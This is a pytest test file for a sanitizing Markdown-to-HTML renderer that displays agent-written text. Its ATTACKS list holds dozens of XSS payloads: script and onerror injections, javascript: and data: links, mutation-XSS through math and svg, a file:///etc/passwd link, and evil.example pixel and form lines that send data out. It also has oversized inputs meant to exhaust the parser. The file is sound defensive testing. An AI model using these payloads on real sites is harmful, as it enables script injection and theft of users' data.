"""Markdown of agents becomes HTML that is safe whatever it says (peers' bar: nothing loads, nothing
runs, a price is not mathematics)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from rendering.cleaning import LINK_SCHEMES, clean
from rendering.markdown import HERE, LONGEST, to_html
from rendering.markdownpieces import DEEPEST

LOADING = {"src", "srcset", "poster", "background", "data", "xlink:href", "action", "formaction"}
FORBIDDEN = {"script", "style", "img", "iframe", "object", "embed", "svg", "form", "link", "meta",
             "base", "video", "audio", "input", "textarea", "template", "annotation-xml"}  # fmt: skip


class Judge(HTMLParser):
    """Reads HTML as a browser would and notes whatever could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "id", "name"} or name in LOADING:
                self.faults.append(f"{tag}[{name}]")
            if name == "href" and (value or "").partition(":")[0].lower() not in LINK_SCHEMES:
                self.faults.append(f"{tag}[href={value}]")


def faults_of(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=q></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x](https://evil.example/a"onerror="alert(1))',
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    '[x](https://evil.example/ "title\' onmouseover=alert(1)")',
    '```html"><script>alert(1)</script>\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>a</script> |\n|---|\n| <img src=x onerror=a> |",
    "- [x] <input onfocus=alert(1) autofocus>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(https://evil.example)}{x}$",
    r"$$\unicode{<script>alert(1)</script>}$$",
    r"\[ \color{red;background:url(//evil.example)} x \]",
    'https://evil.example/"onmouseover=alert(1)//',
    "https://evil.example/'><script>alert(1)</script>",
    '<https://evil.example/"><script>alert(1)</script>>',
    "**<b onclick=alert(1)>**",
    "> <script\n> >alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_an_agent_writes_can_run_or_load(attack: str) -> None:
    assert faults_of(to_html(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_stays_so_inside_lists_quotes_tables_and_emphasis(attack: str) -> None:
    nested = f"> - **{attack}**\n>   1. {attack}\n\n| a |\n|---|\n| {attack} |\n"

    assert faults_of(to_html(nested)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_last_gate_holds_by_itself(attack: str) -> None:
    """Were the Markdown library to let HTML through, cleaning would still stop it."""
    assert faults_of(clean(attack)) == []


@given(st.text(alphabet=st.sampled_from("<>[]()!`$\\*_~|:-#\n \"'&;/=abjscript01"), max_size=200))
def test_no_text_at_all_raises_or_smuggles(text: str) -> None:
    html = to_html(text)

    assert faults_of(html) == []
    assert html or not text.strip()


def test_raw_html_is_shown_as_text() -> None:
    assert "&lt;b&gt;" in to_html("<b>not bold</b>")


# --- long texts -----------------------------------------------------------------------------------

EVERYTHING = """# A title

**Bold** and `code`, [a page](https://example.org/), ![a chart](https://example.org/chart.png)

- [x] read
- [ ] written

| a | b |
|---|--:|
| 1 | $x^2$ |

```python
print("done")
```

"""


@pytest.mark.parametrize("language", ["en", "de", "ar"])
def test_a_long_text_is_drawn_as_a_short_one_is(language: str) -> None:
    times = HERE // len(EVERYTHING) + 1
    with override(language):
        once = to_html(EVERYTHING)
        assert "<h4>" in once
        assert ("Image:" in once) is (language == "en")
        assert to_html(EVERYTHING * times).split() == (once * times).split()


# --- hostile sizes --------------------------------------------------------------------------------

HOSTILE = {
    "brackets": "[" * LONGEST,
    "pictures": "![" * (LONGEST // 2),
    "matched brackets": "[a" * 20_000 + "]" * 20_000,
    "links": "[a](" * (LONGEST // 4),
    "emphasis": "**a_ " * (LONGEST // 5),
    "mail addresses": "mailto:" * (LONGEST // 7),
    "addresses": "http://a." * (LONGEST // 9),
    "quotes": ">" * LONGEST,
    "deep list": "\n".join("  " * depth + "- a" for depth in range(DEEPEST + 20)),
    "backticks": "".join("`" * length + " " for length in range(1, 400)),
    "dollars": "$" * LONGEST,
    "half formulas": "\\(" * (LONGEST // 2),
    "table": "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|b\n" * 3_000,
    "formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "entities": "&" * LONGEST,
    "a megabyte": "word " * 200_000,
    "a megabyte in one word": "a" * 1_000_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_is_shown_and_never_raises(name: str) -> None:
    html = to_html(HOSTILE[name])

    assert html
    assert faults_of(html) == []


def test_a_text_that_is_too_long_is_shown_plain_and_whole() -> None:
    text = "**a** <b>\n" * (LONGEST // 10 + 1)

    html = to_html(text)

    assert html.startswith('<div class="plain">')
    assert html.count("**a** &lt;b&gt;") == LONGEST // 10 + 1


def test_unclosed_brackets_are_shown_plain_instead_of_searched_for_ever() -> None:
    assert to_html("[" * LONGEST) == f'<div class="plain">{"[" * LONGEST}</div>'


def test_what_is_nested_too_deep_is_shown_plain_instead_of_dropped() -> None:
    assert "the end" in to_html(">" * (DEEPEST + 5) + " the end")


def test_a_text_of_definitions_only_does_not_vanish() -> None:
    assert "https://example.org" in to_html("[a]: https://example.org")


def test_an_unclosed_fence_is_code_to_the_end() -> None:
    html = to_html("Look:\n\n```python\nx = 1\n\ny = 2")

    assert html.count("<figure") == 1
    assert "</code></pre></figure>" in html


# --- what it looks like ---------------------------------------------------------------------------


def test_headings_stand_below_those_of_the_page() -> None:
    html = to_html("# One\n\n## Two\n\n###### Six")

    assert re.findall(r"<(h\d)>", html) == ["h4", "h5", "h6"]


def test_a_link_shows_its_host_and_tells_the_other_side_nothing() -> None:
    html = to_html('[docs](https://example.org/a?b=1 "Manual")')

    assert 'href="https://example.org/a?b=1"' in html
    assert 'title="Manual (example.org)"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_the_host_of_a_link_is_not_what_stands_before_an_at_sign() -> None:
    assert 'title="evil.example"' in to_html("[bank](https://bank.example@evil.example/)")


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("See https://example.org/a_b.", "https://example.org/a_b"),
        ("(https://example.org/x)", "https://example.org/x"),
        ("https://example.org/x_(y) is it", "https://example.org/x_(y)"),
        ("**https://example.org**", "https://example.org"),
        ("<me@example.org>", "mailto:me@example.org"),
    ],
)
def test_a_bare_address_is_a_link_without_the_sentence_around_it(text: str, address: str) -> None:
    assert f'href="{address}"' in to_html(text)


def test_an_address_in_code_stays_code() -> None:
    assert "<a " not in to_html("`https://example.org`\n\n```\nhttps://example.org\n```")


def test_a_path_is_no_link_but_says_where_it_points() -> None:
    html = to_html("[parser](src/parser.py)")

    assert '<span class="no-link" title="src/parser.py">parser</span>' in html


def test_a_picture_is_a_link_to_it_with_its_host() -> None:
    html = to_html("![a chart](https://example.org/c.png)")

    assert "<img" not in html
    assert 'href="https://example.org/c.png"' in html
    assert "Image: a chart (example.org)" in html


def test_a_picture_in_a_link_makes_no_link_in_a_link() -> None:
    html = to_html("[![a](https://a.example/a.png)](https://b.example)")

    assert html.count("<a ") == 1
    assert 'href="https://b.example"' in html


def test_tables_can_be_scrolled_by_keyboard_and_align_without_styles() -> None:
    html = to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")

    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert '<th scope="col" class="align-center">' in html
    assert '<td class="align-right">' in html


def test_task_lists_say_their_state_in_words() -> None:
    html = to_html("- [x] a\n- [ ] b")

    assert 'aria-label="done"' in html
    assert 'aria-label="to do"' in html


def test_strikethrough_and_emphasis_work() -> None:
    assert to_html("~~a~~ **b** *c*") == "<p><s>a</s> <strong>b</strong> <em>c</em></p>\n"


def test_the_same_text_gives_the_same_html() -> None:
    text = "# a\n\n$x$ and `b`"

    assert to_html(text) == to_html(text)
